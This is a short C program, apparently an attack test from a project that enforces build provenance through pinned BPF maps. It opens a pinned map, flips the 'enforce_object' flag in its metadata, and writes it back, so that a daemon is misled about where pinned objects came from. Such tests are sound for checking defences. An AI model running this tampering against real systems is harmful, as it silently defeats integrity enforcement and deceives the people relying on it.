/* otherbuild META: makes the daemon that comes next believe that what is pinned was built from other sources. */
#include "attack.h"
#include "../../../bpf/abi.h"
#include <linux/bpf.h>

int main(int count, char **arguments)
{
	struct pc_meta meta;
	__u32 key = 0;
	union bpf_attr get = { .pathname = (uintptr_t)arguments[1] };
	if (count != 2) return 2;
	union bpf_attr element = { .key = (uintptr_t)&key, .value = (uintptr_t)&meta };
	element.map_fd = (__u32)must("BPF_OBJ_GET", syscall(SYS_bpf, BPF_OBJ_GET, &get, sizeof get));
	must("BPF_MAP_LOOKUP_ELEM", syscall(SYS_bpf, BPF_MAP_LOOKUP_ELEM, &element, sizeof element));
	meta.enforce_object ^= 1;
	must("BPF_MAP_UPDATE_ELEM", syscall(SYS_bpf, BPF_MAP_UPDATE_ELEM, &element, sizeof element));
	return 0;
}
